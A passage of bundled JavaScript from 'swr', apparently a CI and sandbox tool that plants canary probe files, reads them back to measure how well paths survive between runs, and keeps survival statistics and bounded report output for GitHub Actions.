/** Locations that only test names and depth: no large file there. */
const NO_LARGE = new Set(['deep']);
function classesFor(loc, largeBytes) {
    return plantingOrder(PROBE_CLASSES.filter(c => c !== 'large' || (largeBytes > 0 && !NO_LARGE.has(loc.id))));
}
function undo(created) {
    for (const p of [...created].reverse()) {
        try {
            const st = external_node_fs_default().lstatSync(p);
            if (st.isDirectory())
                external_node_fs_default().rmdirSync(p);
            else
                external_node_fs_default().unlinkSync(p);
        }
        catch {
            // Already gone, or no longer ours to remove (not empty): leave it.
        }
    }
}
function retire(opts) {
    const old = ledger_readLedger(opts.stateDir);
    if (!old)
        return undefined;
    if (!old.read_at && !opts.replace)
        throw new errors_UsageError(`a planting (${old.plant_id}, ${old.planted_at}) was never read: run "swr canary read" first, or plant with --replace to discard it`);
    const cleaned = clean_cleanLedger(old, opts.anchors);
    return { plant_id: old.plant_id, removed: cleaned.removed.length };
}
function plantCanaries(opts) {
    const largeBytes = opts.largeBytes ?? DEFAULT_LARGE_BYTES;
    const plantId = opts.plantId ?? (0,external_node_crypto_.randomBytes)(4).toString('hex');
    // The old planting goes first: it may have created a directory this one would otherwise reuse.
    const replaced = retire(opts);
    const planned = planLocations({
        ...opts.anchors,
        plantId,
        at: opts.at ?? [],
        volatile: opts.volatile ?? [],
        includeHome: opts.includeHome ?? true,
        includeTmp: opts.includeTmp ?? true
    });
    const created = [];
    const locations = [];
    const probes = [];
    try {
        for (const p of planned) {
            const { location: loc, abs: dir } = materialize(p, plantId, opts.anchors, created);
            locations.push(loc);
            for (const cls of classesFor(loc, largeBytes)) {
                const { name, expect } = plantProbe(cls, { plantId, dir, largeBytes, created });
                probes.push({
                    class: cls,
                    location: loc.id,
                    path: anchor_anchor(external_node_path_default().join(dir, name), opts.anchors),
                    expect
                });
            }
        }
        const ledger = {
            format: LEDGER_FORMAT,
            plant_id: plantId,
            planted_at: (opts.now ?? new Date()).toISOString(),
            context: opts.context,
            large_bytes: largeBytes,
            locations,
            probes
        };
        writeLedger(opts.stateDir, ledger);
        return replaced ? { ledger, replaced } : { ledger };
    }
    catch (err) {
        undo(created);
        if (err instanceof errors_SwrError)
            throw err;
        // A disk error (a directory the disk had no room for) keeps the one line and exit of every
        // write of swr; only the planting's own failures are worded here.
        const disk = diskError(err);
        if (disk)
            throw disk;
        const e = err;
        const code = errors_errnoCode(err);
        throw new errors_SwrError(code === 'EEXIST'
            ? `canary plant: ${e.path} already exists: planting never replaces a file (nothing was planted)`
            : `canary plant: ${[e.syscall, e.path].filter(Boolean).join(' ')}: ${code ?? e.message} (nothing was planted)`, errors_EXIT.UNREPAIRABLE);
    }
}

;// CONCATENATED MODULE: ./src/core/history/history.ts
/**
 * The history: one JSON line per observation (a canary read, a recorded check), in the private
 * state directory. Bounded: when the current file reaches its limit it becomes `history.1.jsonl`
 * (replacing the previous generation), so the history never grows without end and the newest
 * records are never the ones dropped. Appends use O_APPEND with one write per record, so
 * concurrent writers interleave whole lines; a line that does not parse is skipped on read.
 */




const HISTORY_FILE = 'history.jsonl';
const HISTORY_ROTATED = 'history.1.jsonl';
const history_DEFAULT_LIMITS = {
    maxRecords: 1000,
    maxBytes: 4 * 1024 * 1024
};
/** One check's record: the status of every entry it checked (for stats and `swr why`). */
function checkRecord(report, manifest, context) {
    return {
        v: 1,
        kind: 'check',
        time: report.timing.started,
        context,
        manifest: manifest.file,
        digest: manifest.digest,
        entries: Object.fromEntries(report.results.map(f => [f.id, f.status]))
    };
}
function countLines(file) {
    const buf = external_node_fs_default().readFileSync(file);
    let n = 0;
    for (let i = buf.indexOf(10); i !== -1; i = buf.indexOf(10, i + 1))
        n++;
    return n;
}
function rotateIfFull(dir, limits) {
    const file = external_node_path_default().join(dir, HISTORY_FILE);
    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
    if (!st)
        return;
    if (st.size < limits.maxBytes && countLines(file) < limits.maxRecords)
        return;
    external_node_fs_default().renameSync(file, external_node_path_default().join(dir, HISTORY_ROTATED));
}
function appendHistory(stateDir, record, limits = {}) {
    const l = { ...history_DEFAULT_LIMITS, ...limits };
    const dir = state_dir_ensurePrivateDir(stateDir);
    rotateIfFull(dir, l);
    appendRecord(external_node_path_default().join(dir, HISTORY_FILE), JSON.stringify(record) + '\n', {
        create: true,
        mode: 0o600
    });
}
function isRecord(v) {
    const r = v;
    if (typeof r !== 'object' || r === null || r.v !== 1 || typeof r.time !== 'string')
        return false;
    if (Number.isNaN(Date.parse(r.time)))
        return false;
    if (r.kind === 'canary')
        return typeof r.classes === 'object' && typeof r.locations === 'object';
    if (r.kind === 'check')
        return typeof r.entries === 'object' && typeof r.manifest === 'string';
    return false;
}
function readHistory(stateDir) {
    const out = { records: [], skipped: 0 };
    for (const name of [HISTORY_ROTATED, HISTORY_FILE]) {
        let text;
        try {
            text = external_node_fs_default().readFileSync(external_node_path_default().join(stateDir, name), 'utf8');
        }
        catch {
            continue;
        }
        for (const line of text.split('\n')) {
            if (!line.trim())
                continue;
            try {
                const v = JSON.parse(line);
                if (isRecord(v))
                    out.records.push(v);
                else
                    out.skipped++;
            }
            catch {
                out.skipped++;
            }
        }
    }
    out.records.sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
    return out;
}

;// CONCATENATED MODULE: ./src/core/canary/inspect.ts
/**
 * Reading one probe back: intact, altered (naming each attribute that changed) or lost. Nothing is
 * followed out of place: the probe is lstat'ed, and a link's target is resolved only to learn
 * whether it still leads to the kind of thing it was planted to.
 */



function kindOf(st) {
    if (st.isSymbolicLink())
        return 'symlink';
    if (st.isDirectory())
        return 'dir';
    if (st.isFile())
        return 'file';
    return 'other';
}
function inspect_hashFile(abs) {
    const hash = (0,external_node_crypto_.createHash)('sha256');
    const fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    try {
        const buf = Buffer.allocUnsafe(1 << 20);
        for (let n; (n = external_node_fs_default().readSync(fd, buf, 0, buf.length, null)) > 0;)
            hash.update(buf.subarray(0, n));
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    return hash.digest('hex');
}
class Findings {
    attributes = [];
    details = [];
    add(a, detail) {
        if (!this.attributes.includes(a))
            this.attributes.push(a);
        this.details.push(detail);
    }
    outcome() {
        return this.attributes.length === 0
            ? { state: 'intact' }
            : { state: 'altered', attributes: this.attributes, detail: this.details.join('; ') };
    }
}
function checkMode(f, want, st) {
    const wantBits = parseInt(want, 8);
    const got = st.mode & 0o7777;
    if (got === wantBits)
        return;
    const shown = `mode 0${got.toString(8).padStart(3, '0')} (want ${want})`;
    // Losing a wanted exec bit is its own finding: it is what breaks scripts after a restore.
    if ((wantBits & 0o111) !== 0 && (got & wantBits & 0o111) !== (wantBits & 0o111))
        f.add('exec-bit', shown);
    else
        f.add('mode', shown);
}
function checkContent(f, abs, st, size, digest) {
    if (st.size !== size) {
        f.add('size', `${st.size.toLocaleString('en-US')} bytes (want ${size.toLocaleString('en-US')})`);
        return;
    }
    if (inspect_hashFile(abs) !== digest)
        f.add('content', 'same size, different content');
}
function targetKind(abs) {
    try {
        return kindOf(external_node_fs_default().statSync(abs));
    }
    catch {
        return undefined;
    }
}
/** Compare the probe at `abs` (and a hard link's peer beside it) with what was planted. */
function inspectProbe(probe, abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    const want = probe.expect;
    const f = new Findings();
    if (want.type === 'hardlink') {
        const peer = external_node_fs_default().lstatSync(external_node_path_default().join(external_node_path_default().dirname(abs), want.peer), { throwIfNoEntry: false });
        if (!st && !peer)
            return { state: 'lost' };
        if (!st || !peer) {
            f.add('hardlink', `${!st ? 'first' : 'second'} name lost`);
            return f.outcome();
        }
        if (!st.isFile()) {
            f.add('type', `a ${kindOf(st)} (want file)`);
            return f.outcome();
        }
        if (st.ino !== peer.ino || st.dev !== peer.dev)
            f.add('hardlink', 'the two names are separate files now');
        checkMode(f, want.mode, st);
        checkContent(f, abs, st, want.size, want.sha256);
        return f.outcome();
    }
    if (!st)
        return { state: 'lost' };
    const expectedKind = want.type;
    if (kindOf(st) !== expectedKind) {
        f.add('type', `a ${kindOf(st)} (want ${expectedKind})`);
        return f.outcome();
    }
    switch (want.type) {
        case 'file':
            checkMode(f, want.mode, st);
            checkContent(f, abs, st, want.size, want.sha256);
            break;
        case 'dir':
            checkMode(f, want.mode, st);
            break;
        case 'symlink': {
            const target = external_node_fs_default().readlinkSync(abs);
            if (target !== want.target)
                f.add('link-target', `points to ${target} (want ${want.target})`);
            const reached = targetKind(abs);
            if (reached === undefined)
                f.add('dangling', `${target} does not exist`);
            else if (reached !== want.resolves && target === want.target)
                f.add('link-target', `leads to a ${reached} (want ${want.resolves})`);
            break;
        }
    }
    return f.outcome();
}

;// CONCATENATED MODULE: ./src/core/canary/read.ts
/**
 * Reading a planting back: each probe compared with the ledger, tallied by class and by location,
 * the ledger marked read, and one record appended to the history (canary reads always record:
 * survival over many runs is the point).
 */






const CANARY_READ_SCHEMA = 'swr.canary-read/1';
function tally() {
    return { intact: 0, altered: 0, lost: 0 };
}
function readCanaries(opts) {
    const ledger = ledger_readLedger(opts.stateDir);
    if (!ledger)
        throw new errors_SwrError('no canary planting to read: run "swr canary plant" first', errors_EXIT.BAD_MANIFEST);
    const readAt = (opts.now ?? new Date()).toISOString();
    const reading = {
        schema: CANARY_READ_SCHEMA,
        plant_id: ledger.plant_id,
        planted_at: ledger.planted_at,
        read_at: readAt,
        planted_by: ledger.context,
        read_by: opts.context,
        reread: ledger.read_at !== undefined,
        totals: tally(),
        classes: {},
        locations: {},
        probes: []
    };
    for (const p of ledger.probes) {
        const outcome = inspectProbe(p, resolveAnchored(p.path, opts.anchors));
        reading.probes.push({
            class: p.class,
            location: p.location,
            path: showAnchored(p.path),
            outcome
        });
        const cls = (reading.classes[p.class] ??= { ...tally(), attributes: {} });
        const loc = (reading.locations[p.location] ??= tally());
        for (const t of [reading.totals, cls, loc])
            t[outcome.state]++;
        if (outcome.state === 'altered')
            for (const a of outcome.attributes)
                cls.attributes[a] = (cls.attributes[a] ?? 0) + 1;
    }
    // Classes in their canonical order, whatever order the ledger listed probes in.
    reading.classes = Object.fromEntries(PROBE_CLASSES.flatMap(c => (reading.classes[c] ? [[c, reading.classes[c]]] : [])));
    writeLedger(opts.stateDir, { ...ledger, read_at: ledger.read_at ?? readAt });
    appendHistory(opts.stateDir, canaryRecord(reading), opts.history);
    return reading;
}
function canaryRecord(r) {
    const strip = (t) => ({ intact: t.intact, altered: t.altered, lost: t.lost });
    return {
        v: 1,
        kind: 'canary',
        time: r.read_at,
        context: r.read_by,
        plant_id: r.plant_id,
        planted_at: r.planted_at,
        classes: Object.fromEntries(Object.entries(r.classes).map(([k, t]) => [k, strip(t)])),
        locations: r.locations
    };
}

;// CONCATENATED MODULE: ./src/core/archive/scratch-copy.ts
/**
 * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
 * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
 * files. The caller parses and checks it there, and only then takes what it needs.
 */






function onlyPlain(dir) {
    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
        const abs = external_node_path_default().join(dir, ent.name);
        if (ent.isDirectory())
            onlyPlain(abs);
        else if (!ent.isFile())
            throw new Rejected(`not a regular file: ${ent.name}`);
    }
}
/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
async function scratchCopy(archive, scratchBase, bounds) {
    const dir = makeScratch(scratchBase, 'swr-state');
    const root = external_node_path_default().join(dir, 'w');
    const dispose = () => removeScratch(dir);
    try {
        const x = new EntryExtractor(archive.prefix, root, {
            kind: 'bounded',
            ...bounds,
            single: false
        });
        try {
            await unpack(await archive.open(), archive.compression, x);
        }
        finally {
            x.abort();
        }
        x.finish();
        if (!external_node_fs_default().lstatSync(root).isDirectory())
            throw new Rejected('the archive does not hold a directory');
        onlyPlain(root);
        return { root, dispose };
    }
    catch (err) {
        dispose();
        if (err instanceof Rejected)
            throw err;
        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
    }
}

;// CONCATENATED MODULE: ./src/core/history/context.ts
/**
 * Who made an observation: enough of the runner, job and machine to tell the platforms apart
 * when their survival differs. Built from an environment the shell passes in.
 */

const FROM_ENV = [
    ['runner_os', 'RUNNER_OS'],
    ['runner_name', 'RUNNER_NAME'],
    ['runner_arch', 'RUNNER_ARCH'],
    ['repository', 'GITHUB_REPOSITORY'],
    ['workflow', 'GITHUB_WORKFLOW'],
    ['job', 'GITHUB_JOB'],
    ['run_id', 'GITHUB_RUN_ID'],
    ['run_attempt', 'GITHUB_RUN_ATTEMPT']
];
function runContext(env) {
    const ctx = { platform: `${process.platform}-${process.arch}` };
    for (const [field, name] of FROM_ENV) {
        const v = env[name];
        if (v)
            ctx[field] = v.slice(0, 200);
    }
    if (!ctx.runner_name)
        ctx.host = external_node_os_default().hostname().slice(0, 200);
    return ctx;
}
/** One short label for tables: `Linux/runner-3`, `host.local`. */
function contextLabel(ctx) {
    if (ctx.runner_os || ctx.runner_name)
        return [ctx.runner_os, ctx.runner_name].filter(Boolean).join('/');
    return ctx.host ?? ctx.platform;
}

;// CONCATENATED MODULE: ./src/core/history/wilson.ts
/**
 * The Wilson score interval for a binomial proportion: unlike the normal approximation it stays
 * inside [0, 1] and does not collapse to zero width at 0 or n successes, which is exactly where
 * survival data lives (a path kept in every one of 6 runs is not "certainly kept").
 */
/** z for a two-sided 95% interval. */
const Z95 = 1.959963984540054;
function wilson(successes, n, z = Z95) {
    if (!Number.isInteger(successes) ||
        !Number.isInteger(n) ||
        n < 0 ||
        successes < 0 ||
        successes > n)
        throw new RangeError(`wilson: need 0 <= successes <= n, got ${successes} of ${n}`);
    if (n === 0)
        return { low: 0, high: 1 };
    const p = successes / n;
    const z2 = z * z;
    const centre = p + z2 / (2 * n);
    const spread = z * Math.sqrt((p * (1 - p)) / n + z2 / (4 * n * n));
    const denom = 1 + z2 / n;
    // Clamped to the rate as well as to [0, 1]: at 0 or n successes the formula's bound equals the
    // rate exactly, and floating point must not put it a rounding step on the wrong side.
    return {
        low: successes === 0 ? 0 : Math.max(0, Math.min(p, (centre - spread) / denom)),
        high: successes === n ? 1 : Math.min(1, Math.max(p, (centre + spread) / denom))
    };
}

;// CONCATENATED MODULE: ./src/core/history/stats.ts
/**
 * Survival statistics from the history: per canary class, per canary location and per manifest
 * entry, the share of runs that kept it whole with its 95% Wilson interval and the number of runs
 * observed (one per reading: probes of one reading are not independent), plus each key's
 * recent trend (newest first) and the survival of every recorded run for charts.
 */


const STATS_SCHEMA = 'swr.stats/1';
const TREND_RUNS = 10;
function mark(survived, n) {
    return survived === n ? 'kept' : survived === 0 ? 'lost' : 'partial';
}
function observe(map, key, survived, n, time) {
    if (n === 0)
        return;
    const a = map.get(key) ?? { n: 0, survived: 0, probes: 0, intact: 0, marks: [], last: time };
    const m = mark(survived, n);
    a.n += 1;
    a.survived += m === 'kept' ? 1 : 0;
    a.probes += n;
    a.intact += survived;
    a.marks.push(m);
    a.last = time;
    map.set(key, a);
}
function rows(map) {
    return ([...map]
        .map(([key, a]) => {
        const ci = wilson(a.survived, a.n);
        return {
            key,
            n: a.n,
            survived: a.survived,
            probes: a.probes,
            probes_intact: a.intact,
            rate: a.survived / a.n,
            low: ci.low,
            high: ci.high,
            trend: a.marks.slice(-TREND_RUNS).reverse(),
            last_seen: a.last
        };
    })
        // What needs attention first: lowest survival, then fewest observations, then name.
        .sort((x, y) => x.rate - y.rate || x.n - y.n || x.key.localeCompare(y.key)));
}
const total = (t) => t.intact + t.altered + t.lost;
/** Records must be oldest first (as readHistory returns them). */
function computeStats(records) {
    const classes = new Map();
    const locations = new Map();
    const entries = new Map();
    const runs = [];
    for (const r of records) {
        if (r.kind === 'canary') {
            let kept = 0;
            let all = 0;
            for (const [k, t] of Object.entries(r.classes)) {
                observe(classes, k, t.intact, total(t), r.time);
                kept += t.intact;
                all += total(t);
            }
            for (const [k, t] of Object.entries(r.locations))
                observe(locations, k, t.intact, total(t), r.time);
            if (all > 0)
                runs.push({
                    time: r.time,
                    kind: 'canary',
                    survival: kept / all,
                    label: contextLabel(r.context)
                });
        }
        else {
            const statuses = Object.entries(r.entries);
            for (const [id, status] of statuses)
                observe(entries, id, status === 'OK' ? 1 : 0, 1, r.time);
            const ok = statuses.filter(([, s]) => s === 'OK').length;
            if (statuses.length > 0)
                runs.push({
                    time: r.time,
                    kind: 'check',
                    survival: ok / statuses.length,
                    label: contextLabel(r.context)
                });
        }
    }
    const stats = {
        schema: STATS_SCHEMA,
        records: records.length,
        canary_runs: records.filter(r => r.kind === 'canary').length,
        check_runs: records.filter(r => r.kind === 'check').length,
        classes: rows(classes),
        locations: rows(locations),
        entries: rows(entries),
        runs
    };
    if (records.length > 0) {
        stats.first = records[0].time;
        stats.last = records[records.length - 1].time;
    }
    return stats;
}
/** How often `id` was damaged in its last `window` recorded checks (for `swr why`). */
function recentLosses(records, id, window = TREND_RUNS) {
    const seen = records.flatMap(r => (r.kind === 'check' && id in r.entries ? [r.entries[id]] : []));
    const last = seen.slice(-window);
    return { lost: last.filter(s => s !== 'OK').length, of: last.length };
}

;// CONCATENATED MODULE: ./src/core/engine/canary.ts
/**
 * The canary use cases, shared by `swr canary plant|read|clean` and the Action's `canary-plant`,
 * `canary-read`, `stats` and `record: true`. A planting's ledger and the survival history live
 * in one state directory; the CLI keeps it in its private state directory and takes the canary
 * lock while a command changes it, the Action carries it between runs through the cache.
 *
 * Each call returns a finished result the shells print: a planting, a reading (and what a
 * clean removed), a clean, the survival statistics, or how a state carried in the cache came back.
 * The anchors (workspace, home, temp dir) and the run's context are the shells' to give.
 */











/** The anchors as real paths (a path that does not resolve stays as given, made absolute). */
function canaryAnchors(dirs) {
    const real = (p) => {
        try {
            return external_node_fs_default().realpathSync(p);
        }
        catch {
            return external_node_path_default().resolve(p);
        }
    };
    return { workspace: real(dirs.workspace), home: real(dirs.home), tmp: real(dirs.tmp) };
}
async function canary_locked(state, fn) {
    if (!state.lock)
        return fn();
    const release = await lockWorkspace({
        stateDir: state.stateDir,
        subject: ledgerPath(state.stateDir),
        ...state.lock
    });
    try {
        return fn();
    }
    finally {
        await release();
    }
}
/** Plant probes and write the ledger. */
function plantCanary(state, opts) {
    return canary_locked(state, () => plantCanaries({ ...opts, stateDir: state.stateDir }));
}
/**
 * Compare every probe with the ledger and record the reading in the history; clean when asked.
 * Nothing planted is a one-line error (exit 4).
 */
function readCanary(state, opts) {
    return canary_locked(state, () => readNow(state.stateDir, opts));
}
/**
 * As readCanary, but nothing planted is a result (undefined) rather than an error: the first run
 * of a scheduled survival job has nothing to read yet.
 */
function readCanaryIfPlanted(state, opts) {
    return canary_locked(state, () => ledger_readLedger(state.stateDir) ? readNow(state.stateDir, opts) : undefined);
}
function readNow(dir, opts) {
    const reading = readCanaries({
        stateDir: dir,
        anchors: opts.anchors,
        context: opts.context,
        ...(opts.history ? { history: opts.history } : {})
    });
    if (!opts.clean)
        return { reading };
    const ledger = ledger_readLedger(dir);
    const cleaned = ledger ? clean_cleanLedger(ledger, opts.anchors) : undefined;
    ledger_removeLedger(dir);
    return { reading, cleaned };
}
/** Remove exactly what the planting made, and its ledger; undefined when nothing is planted. */
function cleanCanary(state, anchors) {
    return canary_locked(state, () => {
        const ledger = readLedger(state.stateDir);
        if (!ledger)
            return undefined;
        const cleaned = cleanLedger(ledger, anchors);
        removeLedger(state.stateDir);
        return { plant_id: ledger.plant_id, ...cleaned };
    });
}
/** Survival per location and entry over the history in `stateDir`. */
function survivalStats(stateDir) {
    return computeStats(readHistory(stateDir).records);
}
/** A check (before any repair: what survived) joins the survival history. */
function recordSurvival(stateDir, report, m, context, limits) {
    appendHistory(stateDir, checkRecord(report, m, context), limits);
}
/** Bounds of a canary state archive: a ledger, a rotated history and a little more. */
const STATE_MAX_BYTES = 64 * 1024 * 1024;
const STATE_MAX_MEMBERS = 64;
/**
 * Bring the canary state kept in the cache to `dir` (under `prefix`, newest first), unless an
 * earlier step of the job already holds it there. A state that does not prove itself never
 * reaches `dir`: the run goes on with a fresh one. `scratchBase` is where it is unpacked first.
 */
async function restoreCanaryState(dir, client, prefix, scratchBase) {
    if (external_node_fs_default().existsSync(dir))
        return { from: 'present' };
    let source = { from: 'no-cache' };
    if (client) {
        const hit = await client.find(dir, prefix, [prefix]);
        if (!hit)
            source = { from: 'none' };
        else {
            const why = await takeState(hit, dir, scratchBase);
            source =
                why === undefined
                    ? { from: 'cache', key: hit.matchedKey }
                    : { from: 'refused', key: hit.matchedKey, why };
        }
    }
    state_dir_ensurePrivateDir(dir);
    return source;
}
/**
 * Unpack the cached state into scratch, parse the ledger and the history there (which bounds and
 * validates them), and only then move it to `dir`. Returns why it was refused, undefined when
 * taken.
 */
async function takeState(hit, dir, scratchBase) {
    let copy;
    try {
        copy = await scratchCopy(hit, scratchBase, {
            maxMembers: STATE_MAX_MEMBERS,
            maxBytes: STATE_MAX_BYTES
        });
        ledger_readLedger(copy.root);
        readHistory(copy.root);
        external_node_fs_default().mkdirSync(external_node_path_default().dirname(dir), { recursive: true });
        external_node_fs_default().renameSync(copy.root, dir);
        external_node_fs_default().chmodSync(dir, 0o700);
        return undefined;
    }
    catch (err) {
        return (err instanceof Error ? err.message : String(err)).split(/[\r\n]/)[0];
    }
    finally {
        copy?.dispose();
    }
}

;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
/**
 * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
 * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
 * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
 */


const MANIFEST_DIR = '.swr';
const MANIFEST_NAME = 'manifest.json';
/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
function locateManifest(input) {
    if (input.flag)
        return { file: path.resolve(input.cwd, input.flag), how: 'flag' };
    if (input.env)
        return { file: path.resolve(input.cwd, input.env), how: 'env' };
    for (let dir = path.resolve(input.cwd);; dir = path.dirname(dir)) {
        const candidate = path.join(dir, MANIFEST_DIR, MANIFEST_NAME);
        if (fs.existsSync(candidate))
            return { file: candidate, how: 'found' };
        if (dir === path.dirname(dir))
            break;
    }
    const home = path.join(input.home, MANIFEST_DIR, MANIFEST_NAME);
    if (fs.existsSync(home))
        return { file: home, how: 'home' };
    return { file: path.join(path.resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
}

;// CONCATENATED MODULE: ./src/core/report/limits.ts
/**
 * How much of each channel GitHub gives a step, and the share swr takes, in one place. GitHub's
 * documented limits:
 *
 * - Step and job outputs: 1 MB per job in total, 50 MB per workflow run, size counted as UTF-16.
 * - Job summary: 1 MiB (1024 KiB) per step; a larger GITHUB_STEP_SUMMARY is dropped whole.
 * - Annotations: 10 error, 10 warning and 10 notice annotations shown per step, 50 per job.
 * - Code scanning SARIF: 25,000 results per run accepted, the 5,000 most severe shown; 10 MB
 *   (gzip-compressed) per upload.
 *
 * swr's outputs together stay under a quarter of the job's 1 MB, so the other steps of the job
 * keep the rest. Whatever a bound leaves out is counted where it was cut, and the full JSON report
 * (the `report-path` output) always has everything.
 */
/** GitHub: bytes of one step's summary. */
const GITHUB_SUMMARY_BYTES = 1024 * 1024;
/** GitHub: annotations of each level (error, warning, notice) shown per step. */
const GITHUB_ANNOTATIONS_PER_LEVEL = 10;
/** GitHub: SARIF results shown per run (more are accepted up to 25,000, and not shown). */
const GITHUB_SARIF_RESULTS_SHOWN = 5000;
/**
 * The summary swr writes, markers and links included: three quarters of the step's limit. A
 * summary over the limit is dropped whole, and the budget is counted before the runner adds
 * anything of its own, so the rest is room to spare rather than a target.
 */
const SUMMARY_BUDGET = (GITHUB_SUMMARY_BYTES * 3) / 4;
/** The `report` output (compact JSON). */
const REPORT_OUTPUT_BYTES = 64 * 1024;
/** The `damaged` and `repaired` outputs (JSON arrays of ids), each. */
const ID_LIST_OUTPUT_BYTES = 16 * 1024;
/** The `stats` output (survival JSON). */
const STATS_OUTPUT_BYTES = 64 * 1024;
/** The `canary` output (planting or reading JSON). */
const CANARY_OUTPUT_BYTES = 64 * 1024;
/**
 * Terminal output: ids one line names before it only counts the rest, and lines of one kind
 * (an added entry, a skipped file) printed before the rest are counted. `--json` lists them all;
 * 10,000 entries once made a 1 MB line.
 */
const LINE_IDS = 5;
const limits_LISTED_LINES = 10;
/** Ids an overflow notice names before it only counts the rest. */
const NOTICE_IDS = 20;
/** Characters of one annotation's message (GitHub shows a few lines of it anyway). */
const ANNOTATION_MESSAGE_CHARS = 2048;
/** Rows of each survival table in a summary (classes, locations, entries). */
const SURVIVAL_TABLE_ROWS = 200;
/** Results in a SARIF file: the ones code scanning shows. */
const SARIF_RESULTS = GITHUB_SARIF_RESULTS_SHOWN;
/**
 * What an output of `text` costs against GitHub's budget: GitHub counts UTF-16, and the bytes on
 * disk are UTF-8; the larger of the two.
 */
function outputSize(text) {
    return Math.max(Buffer.byteLength(text, 'utf8'), text.length * 2);
}

;// CONCATENATED MODULE: ./src/core/report/text.ts
/**
 * Human output of a check: one aligned, greppable line per entry (status first), the files a tree
 * lost or gained, a summary, the wipe signature and the command that repairs the damage. Colour is
 * the caller's choice (TTY and NO_COLOR are decided in the shell).
 */



const COLORS = {
    OK: 'green',
    MISSING: 'red',
    CORRUPT: 'red',
    STRIPPED: 'yellow',
    EMPTY: 'red',
    BROKENLNK: 'red',
    TYPE: 'red',
    SKIPPED: 'gray',
    SMOKEFAIL: 'red'
};
function paint(on, style, s) {
    // Unvalidated: styleText would otherwise judge process.stdout and the environment itself.
    return on ? (0,external_node_util_.styleText)(style, s, { validateStream: false }) : s;
}
function pad(s, n) {
    return s.length >= n ? s : s + ' '.repeat(n - s.length);
}
/** The first few ids, escaped, then a count of the rest: one bounded line however many. */
function fewIds(ids) {
    const named = ids
        .slice(0, LINE_IDS)
        .map(id => escape_escapeText(id))
        .join(', ');
    const rest = ids.length - LINE_IDS;
    return rest > 0 ? `${named} and ${rest.toLocaleString('en-US')} more` : named;
}
/**
 * The first LISTED_LINES of `items`, one line each, then one line counting the rest: a run over
 * 10,000 entries prints a screen, and `--json` lists them all.
 */
function boundedLines(items, line, what) {
    const shown = items.slice(0, LISTED_LINES).map(x => line(x) + '\n');
    const rest = items.length - LISTED_LINES;
    if (rest > 0)
        shown.push(`  ... and ${rest.toLocaleString('en-US')} more ${what} (--json lists all)\n`);
    return shown.join('');
}
/** One line per finding: `STATUS   id   path   detail`. */
function findingLines(findings, opts) {
    const idW = Math.min(32, Math.max(2, ...findings.map(f => escape_escapeText(f.id).length)));
    const pathW = Math.min(40, Math.max(4, ...findings.map(f => escape_escapeText(f.path).length)));
    const out = [];
    for (const f of findings) {
        const status = paint(opts.color, COLORS[f.status], pad(f.status, 9));
        const path = escape_escapeText(f.path);
        const p = path.length > pathW ? '…' + path.slice(-(pathW - 1)) : path;
        out.push(`  ${status} ${pad(escape_escapeText(f.id), idW)}  ${pad(p, pathW)}  ${escape_escapeText(f.detail)}`);
        if (f.files) {
            const d = f.files;
            const more = (shown, total) => total > shown ? [`      ... ${total - shown} more`] : [];
            for (const m of d.missing.slice(0, 5))
                out.push(`      - ${escape_escapeText(m)}`);
            out.push(...more(Math.min(5, d.missing.length), d.counts.missing));
            for (const x of d.extra.slice(0, 5))
                out.push(`      + ${escape_escapeText(x)}`);
            out.push(...more(Math.min(5, d.extra.length), d.counts.extra));
            for (const c of d.changed.slice(0, 5))
                out.push(`      ~ ${escape_escapeText(c.path)} (${escape_escapeText(c.what)})`);
            out.push(...more(Math.min(5, d.changed.length), d.counts.changed));
        }
    }
    return out;
}
function renderCheck(r, opts) {
    const lines = [];
    const shown = opts.all ? r.results : r.results.filter(f => f.status !== 'OK');
    lines.push(...findingLines(shown, opts));
    const s = r.summary;
    const verdict = s.damaged === 0
        ? paint(opts.color, 'green', `${s.ok}/${s.entries} healthy`)
        : paint(opts.color, 'red', `${s.ok}/${s.entries} healthy, ${s.damaged} damaged`);
    lines.push(`${verdict}  (${r.timing.ms} ms${r.results.some(f => f.cached) ? ', cache used' : ''})`);
    if (s.damaged > 0) {
        lines.push(`wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}: ${e(r.diagnosis.cause)}`);
        const ids = r.results.filter(f => f.status !== 'OK').map(f => e(f.id));
        lines.push(`why: swr why${ids.length <= 3 ? ` --only ${ids.join(' ')}` : ''}`);
        lines.push(...fixLines(r));
    }
    lines.push(...sealedLines(r, opts));
    for (const n of r.notes)
        lines.push(paint(opts.color, 'gray', `note: ${e(n)}`));
    return lines.join('\n') + '\n';
}
/** Sealed entries with no usable seal here: said, not counted as damage. */
function sealedLines(r, opts) {
    const open = (r.sealed ?? []).filter(s => s.state !== 'sealed');
    return open.map(s => paint(opts.color, s.state === 'refused' ? 'yellow' : 'gray', `sealed ${e(s.id)}: ${e(s.detail)}${s.state === 'unsealed' ? ' (swr doctor runs its recipe and smoke command, then seals it)' : ''}`));
}
/**
 * The summary's fix: `swr restore` only for root causes that have a way back (their consequences
 * heal with them), and the entries that have none named as such instead of sent to a dead end.
 */
function fixLines(r) {
    const roots = r.diagnosis.advice.filter(a => a.because === undefined);
    const can = roots.filter(a => a.restorable !== false).map(a => e(a.id));
    const cannot = roots.filter(a => a.restorable === false).map(a => e(a.id));
    const out = [];
    if (can.length > 0)
        out.push(`fix: swr restore${can.length <= 3 ? ` --only ${can.join(' ')}` : ''}   (or: swr doctor)`);
    if (cannot.length > 0) {
        const list = cannot.length <= 5 ? cannot.join(', ') : `${cannot.slice(0, 5).join(', ')}, ...`;
